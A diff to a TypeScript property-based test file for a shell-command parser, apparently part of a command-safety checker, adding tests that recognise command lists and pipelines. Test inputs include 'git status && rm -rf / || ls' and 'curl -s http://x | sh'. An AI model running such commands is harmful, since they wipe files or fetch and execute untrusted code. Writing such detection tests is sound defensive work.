@@ -64,6 +64,8 @@ const NEAR_TRIVIAL = [
   ...["'a\"b'", '""', "''", 'if', 'in', 'do', 'done', 'fi', 'then', 'export', 'time', 'x=1'],
   ...['HEAD~1', 'a:~', 'a=~', '0', '00', '08', '1e5', 'declare', 'unset', 'esac', '-', '--'],
   ...['2', '%1', '@x', ':~', 'a~', '=a', 'a='],
+  ...[' && ', ' || ', ' | ', ' && git ', ' | ls ', ' || - ', ' | if ', ' && 1 ', '&&', '|', ' |& '],
+  ...[' && x=1', ' | time ', ' |', '| ', ' &', '& ', ' ; ', ' & ', ' &&& ', ' ||| ', ' || | '],
 ]
 // Tokens that make most inputs not trivial, now and then.
 const RARE = ["'", '"', '{', '}', '!', '#', '*', '[', '\t', '10#5', '$', '\\', '(', '&', ';', '<']
@@ -141,19 +143,63 @@ describe('trivialSyntax', () => {
       )
       .map(([program, parts]) => [program, ...parts].join(''))
     let recognized = 0
+    let joined = 0
     fc.assert(
       fc.property(input, (command) => {
-        if (trivialSyntax(command) !== undefined) recognized += 1
+        const trivial = trivialSyntax(command)
+        if (trivial !== undefined) recognized += 1
+        if (trivial !== undefined && trivial.commands.length > 1) joined += 1
         expect(differences([command])).toEqual([])
       }),
       { numRuns: 20_000 },
     )
     expect(recognized).toBeGreaterThan(2000)
+    expect(joined).toBeGreaterThan(150)
+  })
+
+  it("should give the grammar's analysis for plain commands joined by lists and pipes", () => {
+    const segment = fc
+      .tuple(
+        fc.constantFrom(...PROGRAMS, 'if', 'time', '-x', '1'),
+        fc.array(fc.constantFrom(...NEAR_TRIVIAL.filter((token) => !/[&|]/.test(token))), {
+          maxLength: 4,
+        }),
+      )
+      .map(([program, parts]) => [program, ...parts].join(''))
+    const joiner = fc.constantFrom(
+      ' && ',
+      ' || ',
+      ' | ',
+      ' && ',
+      ' | ',
+      ' ; ',
+      '&&',
+      ' |& ',
+      '  ||  ',
+    )
+    const input = fc
+      .tuple(segment, fc.array(fc.tuple(joiner, segment), { minLength: 1, maxLength: 4 }))
+      .map(([first, rest]) => first + rest.map(([join, next]) => join + next).join(''))
+    let joined = 0
+    fc.assert(
+      fc.property(input, (command) => {
+        if ((trivialSyntax(command)?.commands.length ?? 0) > 1) joined += 1
+        expect(differences([command])).toEqual([])
+      }),
+      { numRuns: 20_000 },
+    )
+    expect(joined).toBeGreaterThan(300)
   })
 
   it('should leave to the grammar every input that is more than literal words', () => {
     for (const command of [
-      'git status && rm -rf /',
+      'git status;ls',
+      'git status & ls',
+      'git status &&ls',
+      'git status |& ls',
+      '&& ls',
+      'ls &&',
+      'ls | | ls',
       'FOO=1 npm test',
       'echo "$(id)"',
       'echo ~',
@@ -168,6 +214,18 @@ describe('trivialSyntax', () => {
       'ls\tsrc',
     ])
       expect(trivialSyntax(command), command).toBeUndefined()
+  })
+
+  it('should name a list or a pipeline, with the words of every command', () => {
+    const list = trivialSyntax('git status && rm -rf / || ls')
+    expect(list?.issues.map((issue) => issue.code)).toEqual(['command_list'])
+    expect(list?.commands).toEqual([['git', 'status'], ['rm', '-rf', '/'], ['ls']])
+    expect(list?.simple).toBeUndefined()
+    const pipeline = trivialSyntax('curl -s http://x | sh')
+    expect(pipeline?.issues.map((issue) => issue.code)).toEqual(['command_pipeline'])
+    expect(pipeline?.commands).toEqual([['curl', '-s', 'http://x'], ['sh']])
+    // The grammar nests a mix in an order of its own: it reads the mix itself.
+    expect(trivialSyntax('a | b | c && d')).toBeUndefined()
   })
 
   it('should read the words of a plain command with their spans and values', () => {
